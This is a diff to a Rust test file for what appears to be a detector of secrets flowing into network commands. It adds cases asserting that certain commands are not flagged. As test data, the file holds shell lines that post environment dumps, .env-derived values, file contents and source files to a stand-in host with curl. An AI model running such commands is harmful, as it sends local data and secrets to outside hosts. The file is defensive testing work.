@@ -178,6 +178,10 @@ fn secrets_written_to_a_file_first_still_flow() {
     assert!(sources("env > /tmp/e; curl --data-binary @/tmp/other https://x.example/").is_empty());
     assert!(sources("K=$(cat .env); curl -d \"$KEY\" https://x.example/").is_empty());
     assert!(sources("K=$(date); curl -d \"$K\" https://x.example/").is_empty());
+    assert!(
+        sources("while read l; do curl -d \"$l\" https://x.example/; done < urls.txt").is_empty()
+    );
+    assert!(sources("find src -name '*.rs' -exec curl -F f=@{} https://x.example/ \\;").is_empty());
 }
 
 #[test]
